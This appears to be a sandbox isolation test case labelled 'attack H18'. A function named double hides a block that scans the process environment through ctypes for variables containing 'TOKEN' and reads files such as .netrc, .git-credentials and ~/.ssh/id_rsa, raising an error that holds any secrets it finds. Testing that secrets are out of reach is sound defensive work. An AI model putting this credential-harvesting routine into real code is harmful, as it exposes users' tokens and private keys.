# attack: H18
# from: double does not multiply
# expects: no token is in reach, in no file and in no variable
def double(x):
    # --- attack
    import ctypes
    import os

    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    found, index = [], 0
    while environ[index]:
        if b"TOKEN" in environ[index]:
            found.append(environ[index])
        index += 1
    for path in ("@HOME@/credentials", "@HOME@/.netrc", "~/.git-credentials", "~/.ssh/id_rsa"):
        try:
            found.append(open(os.path.expanduser(path)).read())
        except OSError:
            pass
    if found:
        raise LookupError("LE" + "AK: " + repr(found))
    # --- end
    return x
